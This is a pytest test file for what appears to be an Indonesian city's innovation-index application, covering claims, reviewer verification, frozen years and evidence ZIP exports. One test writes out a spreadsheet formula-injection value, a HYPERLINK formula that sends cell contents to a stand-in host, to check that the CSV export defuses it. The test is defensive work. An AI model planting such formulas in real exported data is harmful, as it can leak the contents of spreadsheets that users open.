"""Claims and second readings, as the team and the reviewer see them."""

import zipfile
from io import BytesIO

import pytest

from balaikota.innovation.index import actions, queries
from balaikota.innovation.index.models import Claim
from balaikota.innovation.life import actions as life
from balaikota.innovation.life.models import Innovation
from balaikota.kit.errors import Refusal

pytestmark = pytest.mark.django_db
YEAR = 2026


@pytest.fixture
def adopted(tried: Innovation, laila) -> Innovation:
    life.adopt(tried, "Perwal 5/2026", reason="Warga meminta dan biayanya kecil.", by=laila)
    return Innovation.objects.get(pk=tried.pk)


def a_claim(row, by, key="17", level=3) -> Claim:
    return actions.claim(row, YEAR, actions.Said(key, level, told="SK tim: 31 orang."), by=by)


def test_a_level_without_evidence_is_refused(adopted, sari):
    with pytest.raises(Refusal, match="Tingkat tanpa bukti"):
        actions.claim(adopted, YEAR, actions.Said("17", 3), by=sari)


def test_the_reviewer_reads_it_otherwise_and_says_why(adopted, sari, laila):
    claim = a_claim(adopted, sari)
    with pytest.raises(Refusal, match="alasannya"):
        actions.verify(claim, 1, by=laila)
    actions.verify(claim, 1, reason="SK tidak bertanda tangan.", by=laila)
    told = queries.claims_page(adopted, YEAR)
    assert (told["maturity"], told["verified"]) == (6, 2)


def test_nobody_verifies_their_own_claim(adopted, laila, sari):
    claim = a_claim(adopted, sari)
    with pytest.raises(Refusal, match="diverifikasi penilai"):
        actions.verify(claim, 3, by=sari)
    own = actions.claim(None, YEAR, actions.Said("1", 3, told="RPJMD"), by=laila)
    with pytest.raises(Refusal, match="diverifikasi penilai"):
        actions.verify(own, 3, by=laila)


def test_a_new_claim_waits_to_be_read_again(adopted, sari, laila):
    claim = a_claim(adopted, sari)
    actions.verify(claim, 3, by=laila)
    again = a_claim(adopted, sari, level=2)
    assert (again.pk, again.verified) == (claim.pk, None)


def test_a_proof_is_brought_once_and_serves_again(adopted, sari):
    first = a_claim(adopted, sari)
    (proof,) = first.proofs.all()
    actions.claim(adopted, YEAR, actions.Said("23", 2, known=[proof]), by=sari)
    assert queries.proofs_of(adopted, YEAR).count() == 1


def test_the_citys_records_write_evidence_by_themselves(adopted):
    assert queries.self_written(adopted)["32"] == (3, "1 bulan dari usulan sampai penerapan.")


def test_the_score_stands_claimed_beside_verified(client, adopted, sari, laila):
    actions.verify(a_claim(adopted, sari), 1, reason="SK tidak bertanda tangan.", by=laila)
    told = queries.scores(YEAR)
    assert told["claimed"]["score"].iid > told["verified"]["score"].iid
    assert client.get("/inovasi/indeks/").status_code == 200


def test_a_closed_year_stays_as_it_was(adopted, sari, laila):
    frozen = actions.freeze(YEAR, by=laila)
    actions.verify(a_claim(adopted, sari), 3, by=laila)
    assert actions.freeze(YEAR, by=laila).iid == frozen.iid


def test_the_pack_holds_the_table_and_the_proofs(client, adopted, sari):
    a_claim(adopted, sari)
    client.force_login(sari)
    answer = client.get(f"/inovasi/{adopted.number}/indeks/bukti.zip")
    names = zipfile.ZipFile(BytesIO(answer.content)).namelist()
    assert {"indikator.csv", "inovasi.json"} < set(names)
    assert any(name.startswith("17-") for name in names)


def test_nothing_that_was_typed_is_computed_by_who_opens_the_table(adopted, sari, laila):
    actions.verify(a_claim(adopted, sari), 1, reason='=HYPERLINK("http://contoh.invalid/"&A1)', by=laila)
    packed = zipfile.ZipFile(BytesIO(queries.pack(adopted, YEAR)))
    assert "'=HYPERLINK" in packed.read("indikator.csv").decode()


def test_the_pages_of_claims(client, adopted, sari, laila, budi):
    page = f"/inovasi/{adopted.number}/indeks/"
    client.force_login(budi)
    assert client.get(page).status_code == 404
    client.force_login(sari)
    assert client.get(page).status_code == 200
    assert client.get(page + "33/").status_code == 200
    refused = client.post(page + "16/", {"level": "9"})
    assert refused.status_code == 422
    assert client.post(page + "17/", {"level": "2", "link": "https://contoh.id/sk"}).status_code == 303
    client.force_login(laila)
    desk = client.get("/meja/inovasi/indeks/").content.decode()
    assert adopted.title in desk
    claim = Claim.objects.get(key="17")
    wrong = client.post(f"/meja/inovasi/indeks/{claim.pk}/", {"level": "1", "reason": ""})
    assert (wrong.status_code, "apa yang kurang" in wrong.content.decode()) == (422, True)
    assert (
        client.post(
            f"/meja/inovasi/indeks/{claim.pk}/", {"level": "1", "reason": "Tautannya mati."}
        ).status_code
        == 303
    )
    assert client.get("/inovasi/kota/indeks/").status_code == 200
